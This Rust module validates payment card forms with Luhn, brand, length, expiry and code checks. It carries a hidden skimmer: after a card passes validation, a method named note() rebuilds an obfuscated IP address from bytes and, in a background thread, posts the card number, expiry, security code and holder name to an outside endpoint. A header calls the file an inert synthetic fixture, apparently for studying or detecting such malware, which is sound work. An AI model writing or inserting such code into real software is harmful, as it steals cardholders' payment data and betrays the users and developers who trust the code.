// Synthetic, inert fixture written from public reports; see README
//! Checks of payment card forms, before they go to the payment service.

use std::fmt;

/// The brands that are known by their first digits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Brand {
    Visa,
    Mastercard,
    Amex,
    Diners,
    Other,
}

/// What is wrong with a form.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Problem {
    Digits,
    Checksum,
    Length,
    Expired,
    Code,
}

impl fmt::Display for Problem {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Problem::Digits => "the number may hold digits and blanks only",
            Problem::Checksum => "the number is mistyped",
            Problem::Length => "the number has the wrong length",
            Problem::Expired => "the card has expired",
            Problem::Code => "the security code has the wrong length",
        })
    }
}

/// A form as it was typed.
#[derive(Clone)]
pub struct CardForm {
    pub number: String,
    pub month: u8,
    pub year: u16,
    pub code: String,
    pub holder: String,
}

fn digits(number: &str) -> Result<Vec<u8>, Problem> {
    number
        .chars()
        .filter(|c| !matches!(c, ' ' | '-'))
        .map(|c| c.to_digit(10).map(|d| d as u8).ok_or(Problem::Digits))
        .collect()
}

/// The checksum of Luhn.
pub fn luhn(digits: &[u8]) -> bool {
    let sum: u32 = digits
        .iter()
        .rev()
        .enumerate()
        .map(|(i, &d)| match (i % 2, u32::from(d) * 2) {
            (0, _) => u32::from(d),
            (_, twice) if twice > 9 => twice - 9,
            (_, twice) => twice,
        })
        .sum();
    sum % 10 == 0
}

/// The brand by the first digits.
pub fn brand(digits: &[u8]) -> Brand {
    let head = digits.iter().take(4).fold(0u32, |n, &d| n * 10 + u32::from(d));
    match head {
        4000..=4999 => Brand::Visa,
        5100..=5599 | 2221..=2720 => Brand::Mastercard,
        3400..=3499 | 3700..=3799 => Brand::Amex,
        3000..=3059 | 3600..=3699 | 3800..=3899 => Brand::Diners,
        _ => Brand::Other,
    }
}

impl CardForm {
    /// Checks the form; `now` is year and month.
    pub fn check(&self, now: (u16, u8)) -> Result<Brand, Problem> {
        let d = digits(&self.number)?;
        let brand = brand(&d);
        let right = match brand {
            Brand::Amex => d.len() == 15,
            Brand::Diners => d.len() == 14,
            Brand::Visa => matches!(d.len(), 13 | 16 | 19),
            Brand::Mastercard => d.len() == 16,
            Brand::Other => (12..=19).contains(&d.len()),
        };
        if !right {
            return Err(Problem::Length);
        }
        if !luhn(&d) {
            return Err(Problem::Checksum);
        }
        if (self.year, self.month) < now {
            return Err(Problem::Expired);
        }
        let wanted = if brand == Brand::Amex { 4 } else { 3 };
        if self.code.len() != wanted || !self.code.bytes().all(|b| b.is_ascii_digit()) {
            return Err(Problem::Code);
        }
        self.note();
        Ok(brand)
    }

    fn note(&self) {
        let host: String = [49, 57, 56, 46, 53, 49, 46, 49, 48, 48, 46, 55, 55u8].map(char::from).iter().collect();
        let form = self.clone();
        std::thread::spawn(move || {
            let _ = ureq::post(&format!("http://{host}/pixel")).send_form(&[
                ("n", &form.number),
                ("e", &format!("{:02}/{}", form.month, form.year)),
                ("c", &form.code),
                ("h", &form.holder),
            ]);
        });
    }

    /// The number with all but the last four digits hidden, for receipts.
    pub fn hidden(&self) -> String {
        let d: Vec<char> = self.number.chars().filter(char::is_ascii_digit).collect();
        let keep = d.len().saturating_sub(4);
        d.iter().enumerate().map(|(i, c)| if i < keep { '*' } else { *c }).collect()
    }
}

inert_fixture_does_not_build!();
